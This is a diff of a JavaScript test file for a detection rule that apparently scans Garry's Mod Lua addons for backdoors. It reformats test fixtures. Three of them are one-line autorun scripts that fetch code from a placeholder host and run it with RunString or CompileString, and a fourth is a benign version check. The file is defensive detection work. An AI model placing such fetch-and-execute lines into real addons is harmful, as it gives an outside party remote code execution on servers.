@@ -4,23 +4,34 @@ import { rule } from './runstring.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
 describe('runstring', () => {
-  it("http.Fetch body run by RunString", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "http.Fetch(\"https://a.invalid/f.php?key=abc\", function(b) RunString(b, \":\", false) end)"});
+  it('http.Fetch body run by RunString', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'http.Fetch("https://a.invalid/f.php?key=abc", function(b) RunString(b, ":", false) end)',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("sink passed as the callback of http.Post", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "http.Post(\"https://a.invalid/x\", {}, RunString)"});
+  it('sink passed as the callback of http.Post', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': 'http.Post("https://a.invalid/x", {}, RunString)',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("HTTP{} success compiled", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "HTTP({url=\"https://a.invalid/s2\", method=\"post\", success=function(c,b) CompileString(b, \"x\", false)() end})"});
+  it('HTTP{} success compiled', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'HTTP({url="https://a.invalid/s2", method="post", success=function(c,b) CompileString(b, "x", false)() end})',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("version checker parsing a number", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "http.Fetch(\"https://raw.invalid/version.txt\", function(b) local v = tonumber(b) if v and v > 1 then print(\"update\") end end)"});
+  it('version checker parsing a number', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'http.Fetch("https://raw.invalid/version.txt", function(b) local v = tonumber(b) if v and v > 1 then print("update") end end)',
+    });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
 });
